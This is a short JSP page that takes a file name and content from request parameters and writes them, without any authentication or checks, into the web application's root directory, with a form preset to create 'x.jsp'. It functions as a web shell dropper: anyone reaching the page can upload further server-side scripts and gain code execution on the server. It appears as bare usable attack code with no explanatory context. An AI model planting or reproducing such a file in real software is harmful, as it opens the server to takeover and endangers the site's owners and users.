<%@ page import="java.io.*" contentType="text/html;charset=UTF-8" %>
<%
    String f = request.getParameter("f");
    String t = request.getParameter("t");
    if (f != null && t != null) {
        FileOutputStream fo = new FileOutputStream(application.getRealPath("/") + f);
        fo.write(t.getBytes("UTF-8"));
        fo.close();
        out.println("<a href=\"" + f + "\">ok</a>");
    }
%>
<form method="post"><input name="f" value="x.jsp"><textarea name="t"></textarea><input type="submit"></form>
